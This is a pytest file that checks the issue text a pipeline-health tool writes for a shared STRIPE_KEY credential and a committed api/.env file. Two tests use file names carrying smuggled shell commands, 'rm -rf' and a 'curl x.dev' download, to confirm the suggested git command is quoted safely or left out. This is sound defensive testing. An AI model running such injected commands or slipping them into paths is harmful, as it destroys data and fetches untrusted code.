"""The words about a secret that is shared, and about one that is in the repository."""

from dataclasses import replace

import pytest

from builders import PROJECT, a_policy
from incident_builders import REPO, ailment, incident, page, proof
from pipeline_health.core.issue_text import body, title_of
from pipeline_health.core.issue_text.comments import closing
from pipeline_health.core.model.findings import Kind, Scope, Subject, Symptom, Thing
from pipeline_health.core.model.incident import Cause, CauseClass, Incident, Owner
from pipeline_health.core.model.policy import EvidenceMode, Routing
from pipeline_health.core.model.questions import LinkTrace

RAILWAY = LinkTrace(url="https://railway.com/project/p1")
SHARED = Symptom(
    kind=Kind.CREDENTIAL_SHARED,
    scope=Scope("railway:p1"),
    subject=Subject(Thing.CREDENTIAL, "STRIPE_KEY"),
)
FILE = Symptom(
    kind=Kind.ENV_FILE_COMMITTED,
    scope=Scope("github:4711:files"),
    subject=Subject(Thing.FILE, "api/.env"),
)


def broken(symptom: Symptom) -> Incident:
    """Give an incident of *symptom* as the audit found it."""
    trace = RAILWAY if symptom.subject.thing is Thing.CREDENTIAL else page()
    cause = Cause(
        of=CauseClass.CONFIG, key=symptom.subject.name, owner=Owner.HUMAN, why="Found so."
    )
    found = incident(ailment(symptom, commit=None, trace=trace), cause=cause)
    return replace(found, evidence=None, last_green=None)


def text_of(symptom: Symptom) -> str:
    """Give the body of its issue."""
    return body(
        broken(symptom),
        routing=Routing(),
        evidence_shown=EvidenceMode.FULL,
        project=a_policy(),
    )


@pytest.mark.parametrize(
    ("symptom", "title"),
    [
        (SHARED, "Shared credential: STRIPE_KEY (shop)"),
        (FILE, ".env committed: api/.env (shop)"),
    ],
)
def test_the_titles(symptom: Symptom, title: str) -> None:
    """What and where; stable, for neither a commit nor a place is in it."""
    cause = broken(symptom).cause
    assert title_of(symptom.kind, symptom.subject, project=PROJECT, cause=cause) == title


@pytest.mark.parametrize(
    ("symptom", "words"),
    [
        (SHARED, "The secret `STRIPE_KEY` is shared by staging and production in project `shop`"),
        (SHARED, "| secret | `STRIPE_KEY` |"),
        (SHARED, "Make a second one at its provider"),
        (SHARED, "Open [details](https://railway.com/project/p1) in Railway"),
        (SHARED, "set `STRIPE_KEY` there"),
        (SHARED, "into `shared_ok` of `[projects.audit]`"),
        (SHARED, "- The secret `STRIPE_KEY` is another one in staging than in production after"),
        (FILE, "The file `api/.env` is committed in project `shop`"),
        (FILE, "| file | `api/.env` |"),
        (FILE, "1. Replace every secret in it first"),
        (FILE, "`git rm --cached -- api/.env`"),
        (FILE, "to `.gitignore`"),
        (FILE, "- The file `api/.env` is gone from the branch after"),
        *(
            (symptom, words)
            for symptom in (SHARED, FILE)
            for words in (
                "**A person** who may make a new secret. Severity: HIGH.",
                "Never paste a value into this issue",
                "`pipeline-health credentials-audit shop`",
                "**Not for an agent.**",
                "close this issue as *not planned*",
                "It left no log",
            )
        ),
    ],
)
def test_what_a_person_reads(symptom: Symptom, words: str) -> None:
    """What is wrong, what to do in which order, and when it is over."""
    assert words in text_of(symptom)


def test_no_run_and_no_branch_is_named() -> None:
    """There is none."""
    text = text_of(SHARED)
    assert "| branch |" not in text
    assert "| environment |" not in text
    assert "gh run" not in text


def test_a_path_is_one_word_of_the_command() -> None:
    """Whoever copies it does not run what a file is called."""
    odd = replace(FILE, subject=Subject(Thing.FILE, "a b; rm -rf/.env"))
    assert "`git rm --cached -- 'a b; rm -rf/.env'`" in text_of(odd)


@pytest.mark.parametrize(
    "path", ["a`; curl x.dev -o y; `/.env", "a|b/.env", "@archon/.env", "a\nb/.env", "a" * 300]
)
def test_a_path_that_cannot_be_shown_is_in_no_command(path: str) -> None:
    """Its quotes would end where a sign of it is shown as another one."""
    text = text_of(replace(FILE, subject=Subject(Thing.FILE, path)))
    assert "git rm" not in text
    assert "2. Take it out of the repository, on a branch, and merge that." in text


@pytest.mark.parametrize(
    ("symptom", "words"),
    [
        (SHARED, "Fixed: the secret `STRIPE_KEY` is not found to be shared any more"),
        (FILE, "Fixed: the file `api/.env` is gone from the branch"),
    ],
)
def test_the_closing_words(symptom: Symptom, words: str) -> None:
    """What the newest audit saw, and no more."""
    told = replace(proof(symptom), commit=None, trace=RAILWAY)
    assert closing(broken(symptom), proof=told).startswith(words)
    assert REPO == "acme/shop"
